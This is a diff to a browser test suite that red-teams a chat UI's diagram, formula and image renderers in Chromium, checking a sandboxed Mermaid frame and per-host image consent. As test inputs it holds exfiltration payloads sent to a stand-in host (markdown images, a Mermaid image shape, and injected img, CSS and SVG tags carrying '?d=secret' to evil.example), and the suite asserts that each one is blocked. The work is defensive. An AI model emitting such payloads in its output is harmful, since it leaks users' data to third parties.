@@ -3,7 +3,7 @@
  * streamed into AgentChatView (math and diagrams on). Every request leaving the page's origin is logged (and aborted):
  * none may happen without a click. A script canary must stay unset, and no input under 1 MB may block the main thread
  * for more than 200 ms (long tasks, read by a PerformanceObserver in the page; on a loaded machine, more than three
- * times what the same size of plain text costs there). Mermaid's own layout of a diagram within its budget is reported.
+ * times what the same size of plain text costs there). Mermaid draws in a sandboxed, network-less frame (its own process in Chromium), held to the same budget.
  */
 import { fileURLToPath } from 'node:url';
 import type { AgentEvent } from '@agent-chat/core';
@@ -37,10 +37,15 @@ describe.skipIf(!chromiumPath)('the rich renderers under a red team in Chromium'
   let browser: Browser;
   let page: Page;
   let errors: string[];
-  /** Off-origin requests, each with whether a click allowed it. */
-  const offOrigin: Array<{ url: string; clicked: boolean }> = [];
+  /**
+   * Off-origin requests, each with whether a click allowed it, and whether a Content-Security-Policy stopped it before
+   * it left the browser (Chromium reports those too, failed with the reason `csp`: the diagram box's).
+   */
+  const offOrigin: Array<{ url: string; clicked: boolean; blocked?: boolean }> = [];
   let clicking = false;
-  const unclicked = () => offOrigin.filter((request) => !request.clicked).map((request) => request.url);
+  /** Origins the user chose for the whole conversation ("Always load from host in this conversation"): consented. */
+  const consentedOrigins = new Set<string>();
+  const unclicked = () => offOrigin.filter((request) => !request.clicked && !request.blocked && !consentedOrigins.has(new URL(request.url).origin)).map((request) => request.url);
 
   /** Sends one turn and waits for it to end and for every formula and diagram to settle; returns the long tasks it caused. */
   async function turn(events: AgentEvent[]): Promise<number[]> {
@@ -68,8 +73,16 @@ describe.skipIf(!chromiumPath)('the rich renderers under a red team in Chromium'
     ({ page, errors } = await browser.newPage());
     const origin = new URL(site.url).origin;
     const isOwn = (url: string) => url.startsWith(origin) || /^(data|blob|about):/.test(url);
+    const logged = new WeakMap<object, { url: string; clicked: boolean; blocked?: boolean }>();
     browser.context.on('request', (request) => {
-      if (!isOwn(request.url())) offOrigin.push({ url: request.url(), clicked: clicking });
+      if (isOwn(request.url())) return;
+      const entry = { url: request.url(), clicked: clicking };
+      logged.set(request, entry);
+      offOrigin.push(entry);
+    });
+    browser.context.on('requestfailed', (request) => {
+      const entry = logged.get(request);
+      if (entry && request.failure()?.errorText === 'csp') entry.blocked = true;
     });
     await browser.context.route('**/*', (route) => (isOwn(route.request().url()) ? route.continue() : route.abort()));
     await page.goto(site.url);
@@ -104,15 +117,50 @@ describe.skipIf(!chromiumPath)('the rich renderers under a red team in Chromium'
     expect(await page.evaluate(() => (window as { __stolen?: unknown }).__stolen)).toBeUndefined();
   }, 120_000);
 
+  it('Mermaid draws in a network-less box: there, an image shape, CSS, an image and a fetch (the source rules bypassed) load nothing', async () => {
+    await turn(answer(fence('flowchart LR\n  Boxed --> Drawn')));
+    const handle = await page.locator('iframe.acu-diagram-box').elementHandle();
+    const box = await handle!.contentFrame();
+    expect(box).not.toBeNull();
+    // Whether Chromium gave the box a process of its own (isolated sandboxed frames): then Mermaid's layout is off the page's main thread.
+    const session = await page.context().newCDPSession(page);
+    const { targetInfos } = await session.send('Target.getTargets');
+    await session.detach();
+    console.info(`the diagram box: ${targetInfos.some((target) => target.type === 'iframe') ? 'an out-of-process frame (its own main thread)' : "in the page's process"}`);
+    // The box is an opaque origin: the page's storage is not its own.
+    expect(await box!.evaluate(() => { try { return localStorage.getItem('token'); } catch { return 'refused'; } })).toBe('refused');
+    const before = offOrigin.length;
+    // Straight into the box, past the kit's source rules (a test-only way in): what would load in the page.
+    const fetched = await box!.evaluate(async () => {
+      const mermaid = (window as unknown as { mermaid: { render(id: string, text: string): Promise<{ svg: string }> } }).mermaid;
+      // Mermaid loads the image shape's picture to size it: in the box that load is refused, and so the render fails.
+      await mermaid.render('probe', 'flowchart LR\n  A@{ img: "https://evil.example/box-shape.png?d=SECRET", label: "x", pos: "t", h: 60, constraint: "on" }').catch(() => undefined);
+      const holder = document.createElement('div');
+      holder.innerHTML = `<img src="https://evil.example/box-img.png"><div style="width:9px;height:9px;background:url(https://evil.example/box-css.png)"></div><svg><image href="https://evil.example/box-svg-image.png" width="9" height="9"/></svg>`;
+      document.body.append(holder);
+      const fetched = await fetch('https://evil.example/box-fetch').then(() => 'fetched', (error: Error) => error.name);
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      return fetched;
+    });
+    expect(fetched).toBe('TypeError');
+    // Mermaid and the rest did ask (so in the page these would have loaded); the box's policy stopped every one.
+    const asked = offOrigin.slice(before);
+    expect(asked.map((request) => request.url)).toEqual(expect.arrayContaining(['https://evil.example/box-shape.png?d=SECRET', 'https://evil.example/box-img.png', 'https://evil.example/box-svg-image.png']));
+    expect(asked.filter((request) => !request.blocked).map((request) => request.url)).toEqual([]);
+    expect(unclicked()).toEqual([]);
+  }, 120_000);
+
   it('Mermaid past its budget (a 600-node mindmap) stays source with a note, without a long task; one within it is drawn', async () => {
     const refused = await turn(answer(`A big one:\n\n${fence(mindmap(600))}`));
     expect(await page.locator('.acu-diagram').last().getAttribute('data-state')).toBe('too-large');
     expect(await page.locator('.acu-diagram[data-state="too-large"] .acu-rendered__note').last().textContent()).toBe('Too large to draw: shown as source.');
     expect(Math.max(0, ...refused), `long tasks ${refused.join(', ')} ms`).toBeLessThanOrEqual(longTaskBudgetMs);
-    // Within the budget, Mermaid lays the diagram out on the main thread: what that costs is reported, not held.
-    const drawn = await turn(answer(fence(mindmap(12))));
+    // Within the budget (a mindmap at its 15 statements), Mermaid lays the diagram out in its box: in Chromium a
+    // sandboxed frame has a process of its own, so the page's main thread is not held by it.
+    const drawn = await turn(answer(fence(mindmap(15))));
     expect(await page.locator('.acu-diagram').last().getAttribute('data-state')).toBe('rendered');
-    console.info(`a 12-node mindmap, drawn: long tasks ${drawn.join(', ') || 'none'} ms`);
+    console.info(`a 15-node mindmap, drawn: long tasks ${drawn.join(', ') || 'none'} ms`);
+    expect(Math.max(0, ...drawn), `long tasks ${drawn.join(', ')} ms`).toBeLessThanOrEqual(longTaskBudgetMs);
   }, 120_000);
 
   it('KaTeX: 25,000 formulas in 100 kB, and 3,000 display formulas, never block the main thread past the budget', async () => {
@@ -165,6 +213,22 @@ describe.skipIf(!chromiumPath)('the rich renderers under a red team in Chromium'
       { type: 'message-complete', message: { role: 'model', content: [{ text: 'Again: ![chart](https://evil.example/final.png?d=secret)' }] }, messageKey: key },
       { type: 'turn-end', finishReason: 'stop' },
     ]);
+    expect(await page.locator('.acu-message').last().locator('button.acu-media-gate__load').textContent()).toBe('Load image from evil.example');
+    expect(unclicked()).toEqual([]);
+  }, 60_000);
+
+  it('one host for this conversation: after "Always load from pics.example", its later images load, other hosts still ask', async () => {
+    await turn(answer('![one](https://pics.example/one.png)'));
+    expect(await page.locator('.acu-message').last().locator('button.acu-media-gate__host').textContent()).toBe('Always load from pics.example in this conversation');
+    const before = offOrigin.length;
+    await click('.acu-message button.acu-media-gate__host');
+    consentedOrigins.add('https://pics.example');
+    expect(offOrigin.slice(before).map((request) => request.url)).toEqual(['https://pics.example/one.png']);
+    // Later, a message image and an artifact of that origin load with no click; evil.example is not covered.
+    const later = offOrigin.length;
+    await turn(answer('![two](https://pics.example/two.png) ![leak](https://evil.example/host.png?d=secret)', [media('pics', 'https://pics.example/three.png')]));
+    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)));
+    expect(offOrigin.slice(later).map((request) => request.url).sort()).toEqual(['https://pics.example/three.png', 'https://pics.example/two.png']);
     expect(await page.locator('.acu-message').last().locator('button.acu-media-gate__load').textContent()).toBe('Load image from evil.example');
     expect(unclicked()).toEqual([]);
   }, 60_000);
